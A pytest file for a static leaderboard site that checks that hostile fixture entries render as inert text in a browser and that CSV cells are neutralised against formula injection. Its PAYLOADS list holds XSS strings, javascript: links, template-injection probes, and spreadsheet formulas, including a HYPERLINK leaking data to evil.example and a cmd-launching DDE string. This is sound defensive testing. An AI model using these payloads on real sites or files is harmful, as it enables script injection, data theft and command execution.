"""Hostile but valid entries: markup, template syntax and formulas stay inert text everywhere.

The entries in tests/fixtures/hostile/ pass validation (nothing in them is malformed) but
carry script, HTML, template and spreadsheet payloads in every free-text field. The site
built from them is opened in a real browser, and the dataset is read back as a spreadsheet
and a program would read it.
"""

from __future__ import annotations

import csv
import functools
import http.server
import io
import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import ConsoleMessage, Dialog, Frame, Page, Request, Route

from builder.build import BuildReport, build_site
from builder.config import SiteConfig
from builder.conventions import model_path
from builder.entries.gather import check_paths
from builder.entries.load import read_entry
from builder.entries.model import Entry
from builder.present.dataset import COLUMNS

from .conftest import FIXTURES

HOSTILE = FIXTURES / "hostile" / "entries"
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Vega logs this for the layered top-emitters chart with some small data sets, hostile or
# not (the google/ entries alone show it); it is about sorting, not about the content.
VEGA_SORT_WARNING = "Domains that should be unioned has conflicting sort properties"

# Every payload the fixtures carry, as the YAML value holds it (before the validator trims
# surrounding whitespace). test_every_payload_is_in_a_fixture keeps this list honest.
PAYLOADS = (
    # script and markup in names, organizations, source titles and notes
    "<script>alert(1)</script>",
    '"><script>alert(2)</script>',
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe src="https://evil.example/frame"></iframe>',
    "<style>body{display:none}</style>",
    '<a href="javascript:alert(1)" onclick="alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "![tracking pixel](https://evil.example/pixel.png)",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="https://evil.example/"><button>Submit</button></form>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x">',
    '" onfocus="alert(1)" autofocus="',
    # quotes in links, to leave the href attribute
    'https://example.org/x"onmouseover="alert(1)',
    'https://example.org/paper"onclick="alert(1)',
    # script schemes in Markdown links
    "[x](javascript:alert(1))",
    "[y](JaVaScRiPt:alert(1))",
    "[z](javascript&#58;alert(1))",
    "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[v](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[ref]: javascript:alert(1)",
    # template syntax
    "{{ 7*7 }}",
    "{% for x in range(3) %}loop{% endfor %}",
    "{{ config }}",
    "{{ config.items() }}",
    "{% raw %}{{ x }}{% endraw %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    # spreadsheet formulas
    '=HYPERLINK("https://evil.example/?leak="&A1, "Click me")',
    "@SUM(1)",
    "=1+1",
    "+1",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
    "\t@SUM(1)",
)


def _strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def test_every_payload_is_in_a_fixture() -> None:
    values: list[str] = []
    for path in sorted(HOSTILE.rglob("*.yaml")):
        raw = read_entry(path, HOSTILE)
        assert not hasattr(raw, "message"), raw
        values.extend(_strings(raw.root.plain()))  # type: ignore[union-attr]
    missing = [p for p in PAYLOADS if not any(p in v for v in values)]
    assert missing == []
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 40


def test_hostile_entries_are_valid() -> None:
    entries, errors = check_paths([HOSTILE])
    assert errors == []
    assert len(entries) == len(list(HOSTILE.rglob("*.yaml")))


# ---------------------------------------------------------------------------------------
# The site built from the hostile entries


@dataclass
class HostileSite:
    out: Path
    url: str
    report: BuildReport
    entries: dict[str, Entry] = field(default_factory=dict)


class _QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HostileSite]:
    """The hostile entries built once and served on a free loopback port."""
    out = tmp_path_factory.mktemp("hostile") / "_site"
    report = build_site(HOSTILE, out, SiteConfig(repo_url="https://github.com/example/leaderboard"))
    handler = functools.partial(_QuietHandler, directory=str(out))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    host, port = server.server_address[:2]
    entries = {r.entry.id: r.entry for r in report.results}
    yield HostileSite(out, f"http://{host}:{port}", report, entries)
    server.shutdown()
    server.server_close()


@dataclass
class Watch:
    """Everything a hostile page could do that it must not."""

    dialogs: list[str] = field(default_factory=list)
    console: list[str] = field(default_factory=list)
    outside: list[str] = field(default_factory=list)
    navigations: list[str] = field(default_factory=list)

    def problems(self) -> dict[str, list[str]]:
        return {
            name: found
            for name, found in (
                ("dialogs opened", self.dialogs),
                ("console errors", self.console),
                ("requests outside 127.0.0.1", self.outside),
                ("navigations away", self.navigations),
            )
            if found
        }


@pytest.fixture()
def watched(page: Page, hostile_site: HostileSite) -> Iterator[tuple[Page, Watch]]:
    watch = Watch()

    def on_dialog(dialog: Dialog) -> None:
        watch.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def on_console(msg: ConsoleMessage) -> None:
        if msg.type in ("error", "warning") and VEGA_SORT_WARNING not in msg.text:
            watch.console.append(f"{msg.type}: {msg.text}")

    def on_route(route: Route, request: Request) -> None:
        if urlsplit(request.url).hostname == "127.0.0.1":
            route.continue_()
        else:
            watch.outside.append(request.url)
            route.abort()

    def on_navigated(frame: Frame) -> None:
        if frame == page.main_frame and not frame.url.startswith(hostile_site.url + "/"):
            watch.navigations.append(frame.url)

    page.on("dialog", on_dialog)
    page.on("console", on_console)
    page.on("pageerror", lambda exc: watch.console.append(f"pageerror: {exc}"))
    page.on("framenavigated", on_navigated)
    page.route("**/*", on_route)
    yield page, watch
    assert watch.problems() == {}


# What no page may contain, whatever the entries say. Returns the offenders found.
_INERT_CHECK = """origin => {
    const found = [];
    for (const el of document.querySelectorAll(
        'iframe, frame, frameset, object, embed, style, base, noscript, svg script')) {
        // the site's own: the stylesheet that shows every column when scripts are off
        const ours = el.tagName === 'NOSCRIPT' && el.parentElement === document.head
            && /^<link rel="stylesheet" href="[./]*assets\\/noscript\\.css">$/
                .test(el.innerHTML.trim());
        if (!ours) found.push('element ' + el.tagName.toLowerCase());
    }
    for (const el of document.querySelectorAll('meta[http-equiv]')) {
        const csp = el.httpEquiv.toLowerCase() === 'content-security-policy';
        if (!csp || el.parentElement !== document.head) found.push('meta ' + el.httpEquiv);
    }
    for (const el of document.querySelectorAll('form')) {  // the filters, vega's bindings
        const ours = el.id === 'filters' || el.classList.contains('vega-bindings');
        if (!ours || el.hasAttribute('action')) found.push('form ' + el.outerHTML.slice(0, 80));
    }
    for (const el of document.querySelectorAll('*')) {
        for (const attr of el.attributes) {
            const name = attr.name.toLowerCase();
            const value = attr.value.replace(/\\s/g, '').toLowerCase();
            const scheme = /^(javascript:|vbscript:|data:text)/.test(value);
            if (name.startsWith('on') || name === 'srcdoc' || name === 'formaction'
                || (scheme && /(href|src|action|data)$/.test(name))) {
                found.push('attribute ' + el.tagName.toLowerCase() + ' ' + attr.name);
            }
        }
    }
    for (const a of document.querySelectorAll('a[href]')) {
        if (!['http:', 'https:', 'mailto:'].includes(a.protocol)) {
            found.push('link ' + a.getAttribute('href'));
        }
    }
    for (const s of document.querySelectorAll('script')) {
        const ok = s.type === 'application/json'
            || (s.src && s.src.startsWith(origin + '/assets/') && !s.textContent.trim());
        if (!ok) found.push('script ' + (s.src || s.textContent.slice(0, 60)));
    }
    for (const img of document.querySelectorAll('img')) {
        if (!img.src.startsWith(origin + '/')) found.push('img ' + img.src);
    }
    const body = getComputedStyle(document.body);
    if (body.display === 'none' || body.visibility === 'hidden' || body.opacity === '0') {
        found.push('body hidden');
    }
    return found;
}"""


def _open(page: Page, url: str) -> None:
    page.goto(url, wait_until="load")
    page.wait_for_timeout(150)  # let any timer or late handler fire


def _assert_inert(page: Page, origin: str) -> None:
    found = page.evaluate(_INERT_CHECK, origin)
    assert found == []
    assert page.locator("main h1").is_visible()
    assert page.locator("footer.site-footer").is_visible()


def _one_line(text: str) -> str:
    """A value as the browser renders it: runs of whitespace shown as one space."""
    return " ".join(text.split())


@pytest.mark.browser
def test_index_shows_every_payload_as_text(
    watched: tuple[Page, Watch], hostile_site: HostileSite
) -> None:
    page, watch = watched
    _open(page, hostile_site.url + "/")
    _assert_inert(page, hostile_site.url)
    entries = hostile_site.entries.values()
    names = page.locator("#leaderboard tbody th").all_inner_texts()
    assert sorted(names) == sorted(_one_line(e.name) for e in entries)
    orgs = page.locator("#leaderboard tbody td.c-org").all_inner_texts()
    assert sorted(orgs) == sorted(_one_line(e.organization) for e in entries)
    assert "<script>alert(1)</script>" in names
    assert "{{ 7*7 }}" in names and "49" not in names
    # The filter lists the organizations' catalog names, never an entry's own text.
    options = page.locator("#f-org option").all_inner_texts()
    assert options[1:] == ["Google", "Meta", "OpenAI"]
    # Every chart is drawn with the names in it, and hovering each mark shows its tooltip.
    figures = page.locator("figure[data-chart]")
    hovered = 0
    for i in range(figures.count()):
        figure = figures.nth(i)
        figure.scroll_into_view_if_needed()
        page.wait_for_function(
            "el => el.classList.contains('drawn')", arg=figure.element_handle(), timeout=15_000
        )
        marks = figure.locator("svg .mark-symbol path, svg .mark-rect path")
        for j in range(marks.count()):
            marks.nth(j).hover(force=True)
            hovered += 1
        _assert_inert(page, hostile_site.url)
    assert hovered >= len(hostile_site.entries)
    # Searching for a payload finds its row as text.
    page.fill("#f-q", "<script>")
    visible = page.locator("#leaderboard tbody tr:not([hidden]) th").all_inner_texts()
    assert sorted(visible) == ['"><script>alert(2)</script>', "<script>alert(1)</script>"]
    _assert_inert(page, hostile_site.url)
    assert watch.problems() == {}


@pytest.mark.browser
@pytest.mark.parametrize(
    "entry_id",
    sorted(p.relative_to(HOSTILE).with_suffix("").as_posix() for p in HOSTILE.rglob("*.yaml")),
)
def test_model_page_shows_payloads_as_text(
    watched: tuple[Page, Watch], hostile_site: HostileSite, entry_id: str
) -> None:
    page, watch = watched
    entry = hostile_site.entries[entry_id]
    _open(page, f"{hostile_site.url}/{model_path(entry_id).removesuffix('index.html')}")
    _assert_inert(page, hostile_site.url)
    assert page.locator("main h1").inner_text() == _one_line(entry.name)
    assert page.title().startswith(_one_line(entry.name))
    assert _one_line(entry.organization) in page.locator("p.meta").inner_text()
    titles = page.locator("ol.sources a").all_inner_texts()
    assert titles == [_one_line(s.title) for s in entry.sources]
    hrefs = [page.locator("ol.sources a").nth(i).get_attribute("href") for i in range(len(titles))]
    assert hrefs == [s.url for s in entry.sources]  # the quotes stayed inside the attribute
    if entry.notes:
        notes = page.locator("div.notes").inner_text()
        if "{{ 7*7 }}" in entry.notes:
            assert "{{ 7*7 }}" in notes and "${7*7}" in notes and "49" not in notes
        for link in page.locator("div.notes a").all():
            href = link.get_attribute("href")
            assert href is None or href.startswith(("http://", "https://", "mailto:"))
    assert watch.problems() == {}


@pytest.mark.browser
def test_data_page_and_downloads_stay_inert(
    watched: tuple[Page, Watch], hostile_site: HostileSite
) -> None:
    page, watch = watched
    _open(page, hostile_site.url + "/data/")
    _assert_inert(page, hostile_site.url)
    assert page.locator("table.dictionary tbody tr").count() == len(COLUMNS)
    for other in ("/methodology/", "/about/", "/contribute/"):
        _open(page, hostile_site.url + other)
        _assert_inert(page, hostile_site.url)
    assert watch.problems() == {}


def test_every_hostile_entry_has_its_page(hostile_site: HostileSite) -> None:
    """Each payload reaches the browser: every entry is on the index and has its page."""
    index = (hostile_site.out / "index.html").read_text(encoding="utf-8")
    for entry_id in hostile_site.entries:
        page = model_path(entry_id)
        assert (hostile_site.out / page).is_file()
        assert f'href="./{page.removesuffix("index.html")}"' in index


# ---------------------------------------------------------------------------------------
# The dataset: formulas neutralized in the CSV, originals kept in the JSON


def test_csv_cells_never_start_a_formula(hostile_site: HostileSite) -> None:
    text = (hostile_site.out / "data" / "leaderboard.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    originals = json.loads(
        (hostile_site.out / "data" / "leaderboard.json").read_text(encoding="utf-8")
    )
    assert [r["id"] for r in rows] == [o["id"] for o in originals]
    strings = [c.name for c in COLUMNS if c.type == "string"]
    numbers = [c.name for c in COLUMNS if c.type in ("number", "integer")]
    prefixed = 0
    for row, original in zip(rows, originals, strict=True):
        for name in strings:
            value = original[name]
            if value is None:
                assert row[name] == ""
            elif value.startswith(FORMULA_TRIGGERS):
                assert row[name] == "'" + value
                prefixed += 1
            else:
                assert row[name] == value
            assert not row[name].startswith(FORMULA_TRIGGERS)
        for name in numbers:
            value = original[name]
            if value is None:
                assert row[name] == ""
            else:
                assert isinstance(value, (int, float)) and not isinstance(value, bool)
                assert float(row[name]) == value
                assert not row[name].startswith("'")
    # names and organizations of the formula fixtures: =1+1, =HYPERLINK, +1, -1, @SUM, =cmd
    assert prefixed >= 6


def test_json_keeps_the_original_strings(hostile_site: HostileSite) -> None:
    rows = json.loads((hostile_site.out / "data" / "leaderboard.json").read_text(encoding="utf-8"))
    by_id = {r["id"]: r for r in rows}
    for entry_id, entry in hostile_site.entries.items():
        assert by_id[entry_id]["name"] == entry.name
        assert by_id[entry_id]["organization"] == entry.organization
    assert by_id["meta/hyperlink"]["name"] == (
        '=HYPERLINK("https://evil.example/?leak="&A1, "Click me")'
    )
    assert by_id["meta/hyperlink"]["organization"] == "@SUM(1)"
    assert by_id["meta/plus-minus"]["name"] == "+1"
    assert by_id["meta/plus-minus"]["organization"] == "-1"
    # Leading tab and carriage return are trimmed by the validator; the formula stays text.
    assert by_id["meta/control-prefix"]["name"] == "=1+1"
    assert by_id["meta/control-prefix"]["organization"] == "=cmd|' /C calc'!A0"
    assert by_id["google/curly-braces"]["name"] == "{{ 7*7 }}"
    quoted = tuple("'" + t for t in FORMULA_TRIGGERS)
    assert not any(str(v).startswith(quoted) for r in rows for v in r.values())
